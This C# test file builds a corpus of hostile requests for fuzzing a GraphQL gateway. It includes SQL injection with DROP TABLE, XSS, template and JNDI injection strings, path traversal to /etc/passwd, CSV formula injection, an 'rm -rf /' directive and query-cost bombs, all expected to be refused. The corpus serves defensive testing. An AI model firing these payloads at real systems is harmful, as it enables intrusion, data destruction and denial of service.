using System.Text;
using System.Text.Json;

namespace Ise.Gateway.Tests.Hostile;

/// <summary>
/// Generates the hostile requests: malformed JSON, wrong variable types, huge strings, deep and wide
/// documents, alias bombs, fragment cycles, invalid ids and codes, injection payloads in every id and
/// text argument (the key and account mutations included), oversized bodies, wrong methods and media
/// types. Every one is meant to be refused.
/// </summary>
public static class HostileCorpus
{
    public const string DemoSme = "BE-0403170701";
    public const string DemoEvent = "ev-demo-workshop";

    /// <summary>Injection and oddity payloads put into every id, code, cursor and text argument.</summary>
    public static IReadOnlyList<string> Payloads { get; } =
    [
        "' OR '1'='1",
        "'; DROP TABLE orleansstorage; --",
        "\" OR 1=1 --",
        "1; SELECT pg_sleep(10)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "{{7*7}}${7*7}",
        "${jndi:ldap://example.invalid/a}",
        "../../../../etc/passwd",
        "\0",
        "%00%0d%0aSet-Cookie: x=1",
        "\u202Egnp.exe",
        "\uD83D\uDE00\uD83D",
        "",
        "   ",
        new string('A', 100_000),
        "NL-" + new string('9', 5_000),
        DemoEvent + ".0.'--",
        DemoEvent + ".99999999999999999999.x",
    ];

    private static readonly (string Name, string Type, string Document)[] s_payloadTemplates =
    [
        ("sme(id)", "ID!", "query($v: ID!) { sme(id: $v) { id } }"),
        ("event(id)", "ID!", "query($v: ID!) { event(id: $v) { id } }"),
        ("smes(after)", "String", "query($v: String) { smes(first: 5, after: $v) { totalCount } }"),
        ("events(after)", "String", "query($v: String) { events(first: 5, after: $v) { totalCount } }"),
        ("checkIn(code)", "String!", "mutation($v: String!) { checkIn(code: $v) { __typename } }"),
        ("undoCheckIn(code)", "String!", "mutation($v: String!) { undoCheckIn(code: $v) { __typename } }"),
        ("cancelRegistration(code)", "String!", "mutation($v: String!) { cancelRegistration(code: $v) { __typename } }"),
        ("leaveFeedback(code, comment)", "String!", "mutation($v: String!) { leaveFeedback(code: $v, rating: 3, comment: $v) { __typename } }"),
        ("publishEvent(id)", "ID!", "mutation($v: ID!) { publishEvent(id: $v) { __typename } }"),
        ("closeEvent(id)", "ID!", "mutation($v: ID!) { closeEvent(id: $v) { __typename } }"),
        ("registerAttendee(smeId)", "ID!", "mutation($v: ID!) { registerAttendee(eventId: \"" + DemoEvent + "\", smeId: $v, contactId: $v) { __typename } }"),
        ("walkIn(eventId, smeId)", "ID!", "mutation($v: ID!) { walkIn(eventId: $v, smeId: $v) { __typename } }"),
        ("eraseContact(smeId, contactId)", "ID!", "mutation($v: ID!) { eraseContact(smeId: $v, contactId: $v) { __typename } }"),
        ("eraseContact(contactId)", "ID!", "mutation($v: ID!) { eraseContact(smeId: \"" + DemoSme + "\", contactId: $v) { __typename } }"),
        ("rectifyContact(contactId, name)", "String!", "mutation($v: String!) { rectifyContact(smeId: \"" + DemoSme + "\", contactId: \"c999\", contact: { name: $v, email: $v, phone: $v }) { __typename } }"),
        ("subjectAccessExport(contactId)", "ID!", "query($v: ID!) { subjectAccessExport(smeId: \"" + DemoSme + "\", contactId: $v) { __typename } }"),
        ("joinCluster(smeId)", "ID!", "mutation($v: ID!) { joinCluster(smeId: $v, sector: MECHATRONICS) { __typename } }"),
        ("postToCluster(text) as a stranger", "String!", "mutation($v: String!) { postToCluster(sector: MECHATRONICS, smeId: \"NL-00000001\", text: $v) { __typename } }"),
        ("recordConnection(ids)", "ID!", "mutation($v: ID!) { recordConnection(eventId: $v, smeId: $v, otherSmeId: $v) { __typename } }"),
        ("markConnectionMet(id)", "ID!", "mutation($v: ID!) { markConnectionMet(id: $v) { __typename } }"),
        ("mergeProvisionalSme(ids)", "ID!", "mutation($v: ID!) { mergeProvisionalSme(provisionalId: $v, targetId: $v) { __typename } }"),
        ("recordRetroactiveAttendance(codes)", "String!", "mutation($v: String!) { recordRetroactiveAttendance(eventId: \"" + DemoEvent + "\", codes: [$v]) { __typename } }"),
        ("addContact(email, phone)", "String!", "mutation($v: String!) { addContact(smeId: \"" + DemoSme + "\", contact: { name: $v, email: $v, phone: $v, consent: { version: $v, givenOn: \"2026-01-01\", language: DUTCH } }) { __typename } }"),
        ("registerSme(companyId, name)", "String!", "mutation($v: String!) { registerSme(input: { country: NL, companyId: $v, name: $v, region: SOUTH_WEST_NETHERLANDS, sector: MECHATRONICS, staffCount: 10, turnover: { amount: 1, currency: EUR }, balanceSheetTotal: { amount: 1, currency: EUR }, leadPartnerId: $v }) { __typename } }"),
        ("createApiKey(name, scope)", "String!", "mutation($v: String!) { createApiKey(input: { name: $v, role: PARTNER_STAFF, scope: $v }) { secret } }"),
        ("createApiKey(scope) for door staff", "String!", "mutation($v: String!) { createApiKey(input: { name: \"Hostile door\", role: DOOR_STAFF, scope: $v }) { secret } }"),
        ("rotateApiKey(id)", "ID!", "mutation($v: ID!) { rotateApiKey(id: $v, graceMinutes: 5) { secret } }"),
        ("revokeApiKey(id)", "ID!", "mutation($v: ID!) { revokeApiKey(id: $v) { status } }"),
        ("createPersonAccount(email, displayName, scope)", "String!", "mutation($v: String!) { createPersonAccount(input: { email: $v, displayName: $v, role: EVENT_ORGANISER, scope: $v }) { password } }"),
        ("createPersonAccount(scope) for a cluster member", "String!", "mutation($v: String!) { createPersonAccount(input: { email: \"hostile@example.test\", displayName: \"Hostile\", role: CLUSTER_MEMBER, scope: $v }) { password } }"),
        ("resetPersonPassword(email)", "String!", "mutation($v: String!) { resetPersonPassword(email: $v) { password } }"),
        ("disablePersonAccount(email)", "String!", "mutation($v: String!) { disablePersonAccount(email: $v) { disabled } }"),
        ("enablePersonAccount(email)", "String!", "mutation($v: String!) { enablePersonAccount(email: $v) { disabled } }"),
        ("changePersonRole(email, scope)", "String!", "mutation($v: String!) { changePersonRole(email: $v, role: DOOR_STAFF, scope: $v) { role } }"),
        ("changePersonRole(scope) of a development person", "String!", "mutation($v: String!) { changePersonRole(email: \"partner-kcc@dev.ise.example\", role: PARTNER_STAFF, scope: $v) { role } }"),
        ("changeMyPassword(passwords) by API key", "String!", "mutation($v: String!) { changeMyPassword(currentPassword: $v, newPassword: $v) { email } }"),
        ("createEvent(title, venue) ending before it starts", "String!", "mutation($v: String!) { createEvent(input: { title: $v, kind: SECTOR_WORKSHOP, hostPartnerId: \"aditec\", region: HAUTS_DE_FRANCE, sectors: [MECHATRONICS], startsAtLocal: \"2026-05-01T10:00:00\", endsAtLocal: \"2026-05-01T09:00:00\", venue: $v, capacity: 10 }) { __typename } }"),
    ];

    public static IReadOnlyList<HostileRequest> All()
    {
        var corpus = new List<HostileRequest>();
        foreach (var (name, _, document) in s_payloadTemplates)
        {
            for (var i = 0; i < Payloads.Count; i++)
            {
                corpus.Add(Graph($"{name} with payload #{i}", document, new Dictionary<string, object?> { ["v"] = Payloads[i] }));
            }
        }

        corpus.AddRange(WrongVariableTypes());
        corpus.AddRange(MalformedJson());
        corpus.AddRange(HostileDocuments());
        corpus.AddRange(CostBombs());
        corpus.AddRange(HostileTransport());
        return corpus;
    }

    private static IEnumerable<HostileRequest> WrongVariableTypes()
    {
        object?[] wrong = [123, 1.5, true, new[] { "a" }, new { a = 1 }, null, "NOT_AN_ENUM", long.MaxValue, "2026-13-45", -1];
        (string Name, string Document)[] templates =
        [
            ("first: Int", "query($v: Int) { smes(first: $v) { totalCount } }"),
            ("sector: Sector!", "query($v: Sector!) { cluster(sector: $v) { members } }"),
            ("id: ID!", "query($v: ID!) { sme(id: $v) { id } }"),
            ("rating: Int!", "mutation($v: Int!) { leaveFeedback(code: \"x.0.y\", rating: $v) { __typename } }"),
            ("day: DateOnly!", "query($v: DateOnly!) { personalDataAudit(day: $v) { totalCount } }"),
            ("language: Language!", "query($v: Language!) { guide(language: $v) { __typename } }"),
            ("input: RegisterSmeInput!", "mutation($v: RegisterSmeInput!) { registerSme(input: $v) { __typename } }"),
            ("contact: ContactInput!", "mutation($v: ContactInput!) { addContact(smeId: \"" + DemoSme + "\", contact: $v) { __typename } }"),
            ("codes: [String!]!", "mutation($v: [String!]!) { recordRetroactiveAttendance(eventId: \"" + DemoEvent + "\", codes: $v) { __typename } }"),
            ("filter: EventFilterInput", "query($v: EventFilterInput) { events(filter: $v) { totalCount } }"),
        ];
        foreach (var (name, document) in templates)
        {
            for (var i = 0; i < wrong.Length; i++)
            {
                if (IsAcceptable(name, wrong[i]))
                {
                    continue;
                }

                yield return Graph($"{name} given {JsonSerializer.Serialize(wrong[i])}", document, new Dictionary<string, object?> { ["v"] = wrong[i] });
            }
        }

        yield return Graph("a required variable missing", "query($v: ID!) { sme(id: $v) { id } }", new Dictionary<string, object?>());
        yield return Graph("an undeclared variable used", "query { sme(id: $v) { id } }", new Dictionary<string, object?> { ["v"] = DemoSme });
        yield return Graph("an input with an unknown field", "mutation($v: ContactInput!) { addContact(smeId: \"" + DemoSme + "\", contact: $v) { __typename } }",
            new Dictionary<string, object?> { ["v"] = new { name = "x", admin = true } });
    }

    /// <summary>Values that are valid for the type (an Int for first within range, an enum name that exists, a null for a nullable).</summary>
    private static bool IsAcceptable(string name, object? value) => value is null && name is "first: Int" or "filter: EventFilterInput";

    private static IEnumerable<HostileRequest> MalformedJson()
    {
        string[] bodies =
        [
            "", "{", "}", "[", "[]", "null", "true", "42", "\"query\"", "{\"query\":}", "{\"query\": 123}", "{\"query\": null}",
            "{\"query\": \"\"}", "{\"query\": [\"{ me { role } }\"]}", "{\"query\": \"{ me { role } }\", \"variables\": \"x\"}",
            "{\"query\": \"{ me { role } }\", \"variables\": [1, 2]}", "{\"query\": \"{ me { role } }\", \"extensions\": 5}",
            "{\"query\": \"{ me { role } }\", \"operationName\": 7}", "{\"query\": \"{ me { role } }\"", "{'query': '{ me { role } }'}",
            "{\"query\": \"{ me { role } }\",}", "\uFEFF{\"query\": \"{ me }\"}", "{\"query\": \"\\ud800\"}", "{\"query\": \"\\u0000\"}",
            "{\"query\": \"query Q { me { role } }\", \"operationName\": \"Missing\"}",
            "{\"query\": \"query A { me { role } } query B { me { role } }\"}",
            "{\"variables\": {\"v\": 1}}",
            "{\"query\": \"{ me { role } }\", \"variables\": " + new string('[', 5_000) + new string(']', 5_000) + "}",
            "{\"query\": \"{ me { role } }\", \"variables\": {\"v\": " + new string('{', 2_000) + "}}",
            "{\"query\": \"" + new string('\\', 999) + "\"}",
        ];
        for (var i = 0; i < bodies.Length; i++)
        {
            yield return HostileRequest.Json($"malformed JSON #{i}", bodies[i]);
        }

        yield return new HostileRequest("invalid UTF-8 bytes", HttpMethod.Post, "/graphql", [0x7B, 0x22, 0x71, 0xFF, 0xFE, 0x22, 0x3A, 0x22, 0x7D]);
    }

    private static IEnumerable<HostileRequest> HostileDocuments()
    {
        yield return Graph("unbalanced braces 10,000 deep", new string('{', 10_000) + new string('}', 10_000));
        yield return Graph("selection 1,000 deep", "{ " + string.Concat(Enumerable.Repeat("me { ", 1_000)) + "role" + new string('}', 1_000) + " }");
        yield return Graph("introspection 30 deep", "{ __schema { types { " + string.Concat(Enumerable.Repeat("fields { type { ", 14)) + "name" + string.Concat(Enumerable.Repeat(" } }", 14)) + " } } }");
        yield return Graph("1,000 aliases of smes", "{ " + string.Join(" ", Enumerable.Range(0, 1_000).Select(i => $"a{i}: smes(first: 100) {{ edges {{ node {{ id journey {{ totalCount }} }} }} }}")) + " }");
        yield return Graph("10,000 aliases of me", "{ " + string.Join(" ", Enumerable.Range(0, 10_000).Select(i => $"a{i}: me {{ role }}")) + " }");
        yield return Graph("5,000 aliases of events", "{ " + string.Join(" ", Enumerable.Range(0, 5_000).Select(i => $"e{i}: events(first: 100) {{ totalCount }}")) + " }");
        yield return Graph("fragment cycle", "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }");
        yield return Graph("self-referencing fragment", "query { ...A } fragment A on Query { me { role } ...A }");
        yield return Graph("fragment fan-out bomb", "query { ...F0 } " + string.Join(" ", Enumerable.Range(0, 20).Select(i => $"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} me {{ role }} }}")) + " fragment F20 on Query { smes(first: 100) { totalCount } }");
        yield return Graph("unknown field", "{ doesNotExist }");
        yield return Graph("unknown argument", "{ sme(id: \"" + DemoSme + "\", drop: true) { id } }");
        yield return Graph("subscription operation", "subscription { me { role } }");
        yield return Graph("directive flood", "{ me " + string.Concat(Enumerable.Repeat("@include(if: true) ", 2_000)) + "{ role } }");
        yield return Graph("unknown directive", "{ me @exec(cmd: \"rm -rf /\") { role } }");
        yield return Graph("duplicate operation names", "query A { me { role } } query A { me { role } }");
        yield return Graph("integer overflow in first", "{ smes(first: 99999999999999999999) { totalCount } }");
        yield return Graph("first out of range", "{ smes(first: 100000) { totalCount } }");
        yield return Graph("negative first", "{ events(first: -1) { totalCount } }");
        yield return Graph("date range of 1,000 years", "{ events(filter: { from: \"1000-01-01\", to: \"2999-12-31\" }) { totalCount } }");
        yield return Graph("enum given as string literal", "{ cluster(sector: \"MECHATRONICS\") { members } }");
        yield return Graph("string of 200,000 characters in a document", "{ sme(id: \"" + new string('x', 200_000) + "\") { id } }");
        yield return Graph("comment of 200,000 characters", "#" + new string('x', 200_000) + "\n{ doesNotExist }");
        yield return Graph("batch of 1,000 operations in an array", "[" + string.Join(",", Enumerable.Repeat("{\"query\":\"{ me { role } }\"}", 1_000)) + "]", raw: true);
        yield return Graph("no credentials for a mutation", "mutation { eraseContact(smeId: \"" + DemoSme + "\", contactId: \"c1\") { erased } }", apiKey: null);
        yield return Graph("wrong credentials", "mutation { eraseContact(smeId: \"" + DemoSme + "\", contactId: \"c1\") { erased } }", apiKey: "' OR '1'='1");
        yield return Graph("door staff erasing", "mutation { eraseContact(smeId: \"" + DemoSme + "\", contactId: \"c1\") { erased } }", apiKey: "dev-door-workshop");
        yield return Graph("member reading the audit", "{ personalDataAudit(day: \"2026-01-01\") { totalCount } }", apiKey: "dev-member-gentse-sensoren");
    }

    /// <summary>
    /// Requests that cost seconds of GraphQL.NET's validation (or the whole process: the spread chain
    /// overflowed its stack) before the pre-check priced them; each name says what it holds. The first
    /// four are too long to parse (token limit); the others stay under it and meet the limit of their kind.
    /// </summary>
    public static IEnumerable<HostileRequest> CostBombs()
    {
        yield return Graph("@include repeated 12,000 times on one field", "{ me " + string.Concat(Enumerable.Repeat("@include(if: true) ", 12_000)) + "{ role } }");
        yield return Graph("8,000 unused variable definitions", "query(" + Join(" ", 8_000, i => $"$v{i}: Int") + ") { me { role } }");
        yield return Graph("8,000 unknown arguments", "{ sme(id: \"" + DemoSme + "\", " + Join(", ", 8_000, i => $"a{i}: 1") + ") { id } }");
        yield return Graph("a chain of 6,000 fragment spreads", "query { ...F0 } " + SpreadChain(6_000));
        yield return Graph("@include repeated 1,000 times on one field", "{ me " + string.Concat(Enumerable.Repeat("@include(if: true) ", 1_000)) + "{ role } }");
        yield return Graph("520 directives on 260 fields", "{ " + Join(" ", 260, i => $"a{i}: me @include(if: true) @skip(if: false) {{ role }}") + " }");
        yield return Graph("1,000 unused variable definitions", "query(" + Join(" ", 1_000, i => $"$v{i}: Int") + ") { me { role } }");
        yield return Graph("1,000 unknown arguments", "{ sme(id: \"" + DemoSme + "\", " + Join(", ", 1_000, i => $"a{i}: 1") + ") { id } }");
        yield return Graph("2,090 arguments on 190 fields", "{ " + Join(" ", 190, i => $"s{i}: sme(id: \"{DemoSme}\", " + Join(", ", 10, j => $"a{j}: 1") + ") { id }") + " }");
        yield return Graph("a chain of 1,000 fragment spreads", "query { ...F0 } " + SpreadChain(1_000));
        yield return Graph("40,000 attendee codes in the variables", "mutation($v: [String!]!) { recordRetroactiveAttendance(eventId: \"" + DemoEvent + "\", codes: $v) { __typename } }",
            new Dictionary<string, object?> { ["v"] = Enumerable.Repeat("x", 40_000).ToList() });
        yield return Graph("variables nested 40 lists deep", "mutation($v: [String!]!) { recordRetroactiveAttendance(eventId: \"" + DemoEvent + "\", codes: $v) { __typename } }",
            new Dictionary<string, object?> { ["v"] = Enumerable.Range(0, 40).Aggregate((object)"x", (inner, _) => new[] { inner }) });
        yield return Graph("a string of 100,000 characters in the variables", "mutation($v: String!) { postToCluster(sector: MECHATRONICS, smeId: \"" + DemoSme + "\", text: $v) { __typename } }",
            new Dictionary<string, object?> { ["v"] = new string('x', 100_000) });
    }

    private static string Join(string separator, int count, Func<int, string> item) => string.Join(separator, Enumerable.Range(0, count).Select(item));

    /// <summary>Fragments F0 … F<paramref name="length"/>, each spreading the next, the last selecting a field.</summary>
    private static string SpreadChain(int length) =>
        Join(" ", length, i => $"fragment F{i} on Query {{ ...F{i + 1} }}") + $" fragment F{length} on Query {{ me {{ role }} }}";

    private static IEnumerable<HostileRequest> HostileTransport()
    {
        var me = Encoding.UTF8.GetBytes("{\"query\":\"{ me { role } }\"}");
        yield return new HostileRequest("body of 300 KiB", HttpMethod.Post, "/graphql", Encoding.UTF8.GetBytes("{\"query\":\"{ me { role } }\",\"x\":\"" + new string('x', 300 * 1024) + "\"}"));
        yield return new HostileRequest("body of 4 MiB", HttpMethod.Post, "/graphql", new byte[4 * 1024 * 1024]);
        yield return new HostileRequest("text/plain body", HttpMethod.Post, "/graphql", me, "text/plain");
        yield return new HostileRequest("form body", HttpMethod.Post, "/graphql", Encoding.UTF8.GetBytes("query=%7B+me+%7B+role+%7D+%7D"), "application/x-www-form-urlencoded");
        yield return new HostileRequest("multipart body", HttpMethod.Post, "/graphql", Encoding.UTF8.GetBytes("--b\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{}\r\n--b--"), "multipart/form-data; boundary=b");
        yield return new HostileRequest("csv body", HttpMethod.Post, "/graphql", Encoding.UTF8.GetBytes("id,name\n1,=cmd|' /C calc'!A0\n"), "text/csv");
        yield return new HostileRequest("no content type", HttpMethod.Post, "/graphql", me, null);
        yield return new HostileRequest("PUT", HttpMethod.Put, "/graphql", me);
        yield return new HostileRequest("DELETE", HttpMethod.Delete, "/graphql", null);
        yield return new HostileRequest("PATCH", HttpMethod.Patch, "/graphql", me);
        yield return new HostileRequest("accepts only XML", HttpMethod.Post, "/graphql", me, Accept: "application/xml");
        yield return new HostileRequest("mutation over GET", HttpMethod.Get, "/graphql?query=" + Uri.EscapeDataString("mutation { eraseContact(smeId: \"" + DemoSme + "\", contactId: \"c1\") { erased } }"), null);
        yield return new HostileRequest("GET with malformed variables", HttpMethod.Get, "/graphql?query=%7B%20me%20%7B%20role%20%7D%20%7D&variables=%7B%7B", null);
        yield return new HostileRequest("GET without query", HttpMethod.Get, "/graphql?variables=%7B%7D", null);
        foreach (var payload in Payloads.Take(14))
        {
            yield return new HostileRequest($"GET sme with payload {Payloads.ToList().IndexOf(payload)}", HttpMethod.Get,
                "/graphql?query=" + Uri.EscapeDataString("query($v: ID!) { sme(id: $v) { id } }") + "&variables=" + Uri.EscapeDataString(JsonSerializer.Serialize(new { v = payload })), null);
        }
    }

    private static HostileRequest Graph(string name, string document, IDictionary<string, object?>? variables = null, string? apiKey = "dev-secretariat", bool raw = false)
    {
        var json = raw ? document : JsonSerializer.Serialize(new { query = document, variables });
        return HostileRequest.Json(name, json, apiKey);
    }
}
